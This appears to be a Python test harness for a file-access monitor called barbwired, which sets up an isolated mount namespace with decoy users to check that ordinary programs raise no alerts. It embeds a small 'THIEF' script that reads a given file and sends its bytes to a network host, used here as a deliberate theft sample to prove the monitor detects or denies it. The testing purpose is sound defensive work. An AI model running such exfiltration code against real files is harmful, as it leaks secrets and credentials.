# SPDX-License-Identifier: GPL-2.0-or-later
"""The stage of the benign tests: a mount namespace with its own /etc, /run and users, so that logins, jobs and account
changes are real and nothing of this machine changes; barbwired with the default policy; and the two checks of every
case: it raises no alert, and a theft of the same file does. With --deny every class has Action=deny: as every refusal
is an alert, nothing is refused to the honest programs, and each theft is. --long: all cases of that.

Root creates the namespace, with the root file system of this machine in it, as for a service with PrivateTmp=, so that
the rules of the default policy apply to its programs."""

import contextlib
import os
import re
import shutil
import subprocess
import sys

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "../harness"))

import harness
from net import HOST_V4, Net
from tap import Failure, Skip, require, require_equal

URL = f"http://{HOST_V4}/"
PASSWORD = "decoy-not-a-password"
USERS = ("root", "ana")
PATH = "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin"

DENY, LONG = "--deny" in sys.argv, "--long" in sys.argv

# A program that no rule names, as a person would write one.
THIEF = """
import socket, sys
secret = open(sys.argv[1], "rb").read()
socket.create_connection((sys.argv[2], 443)).sendall(secret[:4096])
"""

# The directories that the namespace has of its own. PAM and sshd see the changed line of passwd.
SETUP = """
set -e
mount -t tmpfs -o mode=755 tmpfs "$1"
mkdir "$1/etc" "$1/upper" "$1/work" "$1/log"
cp -a /etc/. "$1/etc"
mount --bind "$1/etc" /etc
mount -t overlay -o "lowerdir=/usr/local,upperdir=$1/upper,workdir=$1/work" overlay /usr/local
mount --bind "$1/log" /var/log
mount -t tmpfs -o mode=755 tmpfs /run
mkdir -m 755 /run/sshd
mkdir -m 1777 /run/lock
[ ! -d /var/spool/cron ] || mount -t tmpfs -o mode=755 tmpfs /var/spool/cron
# Only what the tests put there is run.
rm -rf /etc/cron.d /etc/crontab && mkdir /etc/cron.d
sed -i "s,^\\\\(root:[^:]*:[^:]*:[^:]*:[^:]*:\\\\)[^:]*,\\\\1$2," /etc/passwd
echo ready
exec cat >/dev/null
"""


def npm_tarball():
    """The path of npm as its publisher packs it."""
    fetched = subprocess.run([os.path.join(harness.SOURCE_ROOT, "tests/harness/npm-tarball")], capture_output=True,
                             text=True)
    if fetched.returncode == 77:
        raise Skip(fetched.stderr.strip(), environment=True)
    require_equal(fetched.returncode, 0, f"npm-tarball: {fetched.stderr}")
    return fetched.stdout.strip()


class World:
    """with World(root) as world: commands from world.command() run in it."""

    def __init__(self, home):
        self.home = home
        self.root = home.root.decode()
        self.holder = None

    def __enter__(self):
        os.makedirs(f"{self.root}/world")
        os.makedirs(self.home_of("root"), mode=0o700)
        self.holder = subprocess.Popen(
            ["unshare", "--mount", "--propagation", "private", "sh", "-c", SETUP, "setup",
             f"{self.root}/world", self.home_of("root")], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
        if self.holder.stdout.readline() != b"ready\n":
            raise RuntimeError("cannot make the mount namespace")
        return self

    def __exit__(self, *exception):
        if self.holder:
            self.holder.stdin.close()
            self.holder.wait()
            self.holder.stdout.close()

    def home_of(self, user):
        return self.home.path.decode() if user == "ana" else f"{self.root}/home/{user}"

    def command(self, user, command, **environment):
        """A command as if that user had logged in and typed it. Everything before it is replaced by exec."""
        home = self.home_of(user)
        # Its output may be a terminal: no pager may wait there for a key.
        settings = {"HOME": home, "USER": user, "LOGNAME": user, "PATH": PATH, "LC_ALL": "C", "TERM": "dumb",
                    "PAGER": "cat", **environment}
        identity = [] if user == "root" else ["setpriv", f"--reuid={user}", f"--regid={user}", "--init-groups",
                                              "--inh-caps=-all"]
        return ["nsenter", f"--mount=/proc/{self.holder.pid}/ns/mnt", *identity, "env", "-i", "-C", home,
                *[f"{name}={value}" for name, value in settings.items()], *command]

    def do(self, *command, user="root", stdin=None):
        """Runs a command of the preparation, which must succeed. Without the network."""
        result = subprocess.run(self.command(user, command), input=stdin, capture_output=True, text=True,
                                timeout=60)
        if result.returncode != 0:
            raise RuntimeError(f"{command}: {result.stdout}{result.stderr}")
        return result.stdout

    def write(self, user, name, text, mode=0o600):
        """Writes a file below the home of that user; returns its path."""
        path = os.path.join(self.home_of(user), name)
        self.do("mkdir", "-p", os.path.dirname(path), user=user)
        self.do("sh", "-c", 'umask 077; cat >"$1"; chmod "$2" "$1"', "sh", path, f"{mode:o}", user=user, stdin=text)
        return path

    def stand_in(self, path):
        """Installs a program for root at the path of a real one below /usr/local, for programs that are not in Debian:
        it reads the file in its second argument, and connects to the third and fourth."""
        require(path.startswith("/usr/local/"), path)
        self.do("install", "-D", "-m", "755", harness.program("technique-out-tcp"), path)

    def add_npm(self):
        """Uses the npm of the machine if it has one, else installs that of its publisher, like "npm install -g npm"."""
        if shutil.which("npm", path=PATH):
            return
        if not shutil.which("node", path=PATH):
            raise Skip("nodejs is not installed", environment=True)
        script = """
            mkdir -p /usr/local/lib/node_modules/npm /usr/local/bin
            tar -xzf "$1" -C /usr/local/lib/node_modules/npm --strip-components=1 --no-same-owner
            chmod 755 /usr/local/lib/node_modules/npm/bin/npm-cli.js
            ln -sf ../lib/node_modules/npm/bin/npm-cli.js /usr/local/bin/npm
        """
        self.do("sh", "-ec", script, "sh", npm_tarball())

    def add_users(self):
        self.do("useradd", "--no-create-home", "--home-dir", self.home_of("ana"), "--shell", "/bin/bash", "ana")
        self.do("chpasswd", stdin=f"ana:{PASSWORD}\nroot:{PASSWORD}\n")
        self.do("chown", "-R", "ana:ana", self.home_of("ana"))


class Scene:
    def __init__(self, bw, net, home, world):
        self.bw, self.net, self.home, self.world = bw, net, home, world

    def run(self, command, user="root", stdin=None, timeout=60, host=False, needs=None, **environment):
        """Runs a command in the world, in the network of the thief or of the host; returns CompletedProcess."""
        needs = needs or command[0]
        if not shutil.which(needs, path=PATH):
            raise Skip(f"{needs} is not installed", environment=True)
        process = self.net.popen(self.world.command(user, command, **environment),
                                 namespace=self.net.host if host else None,
                                 stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                                 errors="surrogateescape")
        try:
            out, err = process.communicate(stdin or "", timeout=timeout)
        except subprocess.TimeoutExpired:
            process.kill()
            out, err = process.communicate()
            raise Failure(f"{command} did not end in {timeout} s\n{out[-2000:]}\n{err[-2000:]}") from None
        return subprocess.CompletedProcess(command, process.returncode, out, err)

    def silent(self, command, user="root", status=0, **kwargs):
        """Runs a command, then proves that only marker thefts raised alerts since. Returns its output."""
        before = self.alerts_so_far()
        result = self.run(command, user, **kwargs)
        if status is not None:
            said = f"{result.stdout[-1500:]}{result.stderr[-1500:]}"
            require_equal(result.returncode, status, f"{command} as {user}\n{said}")
        self.require_silence(before)
        return result.stdout

    @contextlib.contextmanager
    def silence(self):
        before = self.alerts_so_far()
        yield
        self.require_silence(before)

    def alerts_so_far(self):
        """After those of earlier commands: a thief may have raised several."""
        self.bw.prove_delivered(self.net, self.home)
        return len(self.bw.alerts)

    def alerts_since(self, before):
        """No alerts, except for marker thefts, and for decoys of another test that runs on this machine."""
        def is_foreign(path):
            return path.startswith("/tmp/barbwire-") and not path.startswith(f"{self.world.root}/")

        return [a for a in self.bw.alerts[before:] if a["severity"] != "info" and
                a["process"]["comm"] != "technique-out-t" and
                not all(is_foreign(f["path"]) for f in a["files"])]

    def require_silence(self, before):
        self.bw.prove_delivered(self.net, self.home)
        noise = self.alerts_since(before)
        text = "\n".join(f"{a['process']['exe']} {a['process']['cmdline']}: {a['files']} {a['destination']} "
                         f"{a['lineage']}" for a in noise)
        require(not noise, f"{len(noise)} alerts:\n{text}")

    def theft(self, path, name):
        """The same file, read by a program that no rule names, raises an alert of that class: the silence means
        something."""
        path = path.encode() if isinstance(path, str) else path
        before = len(self.bw.alerts)
        result = self.run([sys.executable, "-c", THIEF, os.fsdecode(path), HOST_V4], needs="/usr/bin/env")
        if DENY:
            require("PermissionError" in result.stderr, f"the theft of {path} was not refused\n{result.stderr}")
        else:
            require_equal(result.returncode, 0, f"the theft of {path}\n{result.stderr}")
        alert = self.bw.wait(lambda: next((a for a in self.bw.alerts[before:] if harness.touches(a, path)), None),
                             harness.ALERT_TIMEOUT, f"theft of {path}")
        classes = [f["class"] for f in alert["files"] if f["path"] == harness.as_text(path)]
        require(name in str(classes), f"{path} is of {classes}, not of {name}")
        require_equal(alert["action"], "denied" if DENY else "alert", "action")
        return alert


def denying(directory):
    """A policy that gives each class of the default policy Action=deny, in this directory."""
    classes = []
    for name in sorted(os.listdir(harness.DEFAULT_POLICY)):
        with open(os.path.join(harness.DEFAULT_POLICY, name), encoding="utf-8") as policy:
            classes += re.findall(r"^\[Class ([^\]]+)\]", policy.read(), re.MULTILINE)
    os.mkdir(directory)
    with open(os.path.join(directory, "99-deny.conf"), "w", encoding="utf-8") as out:
        out.writelines(f"[Class {name}]\nAction=deny\n" for name in classes)
    return directory


@contextlib.contextmanager
def scene(policy_dirs=(harness.DEFAULT_POLICY,), before=lambda net, world: contextlib.nullcontext()):
    """before: what is entered before barbwired starts."""
    harness.require_host()
    with Net() as net, harness.Home() as home, World(home) as world:
        world.add_users()
        if DENY:
            policy_dirs = (*policy_dirs, denying(f"{world.root}/deny.d"))
        with before(net, world), harness.Barbwired(policy_dirs=policy_dirs) as bw:
            bw.refuses = DENY
            yield Scene(bw, net, home, world)


def no_loss(bw):
    bw.stop()
    bw.require_no_loss()
